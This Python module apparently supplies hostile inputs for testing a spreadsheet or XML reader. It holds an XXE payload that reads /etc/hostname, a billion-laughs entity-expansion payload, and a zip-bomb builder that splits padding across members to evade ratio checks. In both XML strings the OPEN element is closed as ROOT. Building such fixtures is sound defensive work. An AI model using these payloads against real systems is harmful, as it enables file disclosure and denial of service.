"""Content made to harm a reader."""

from __future__ import annotations

import io
import zipfile

EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE ROOT [<!ENTITY x SYSTEM "file:///etc/hostname">]><OPEN><Name>&x;</Name></ROOT>'
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE ROOT [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><OPEN><Name>&a9;</Name></ROOT>"
)


def archive_bomb(data: bytes, *, megabytes: int = 160) -> bytes:
    """An archive whose largest member is swollen with white space, spread over members so that no ratio looks odd."""
    target = io.BytesIO()
    block = (b" " * 1023 + b"\n") * 1024
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name in source.namelist():
            bomb.writestr(name, source.read(name))
        for number in range(4):
            with bomb.open(f"xl/media/part{number}.xml", "w") as member:
                for _ in range(megabytes // 4):
                    member.write(block)
    return target.getvalue()
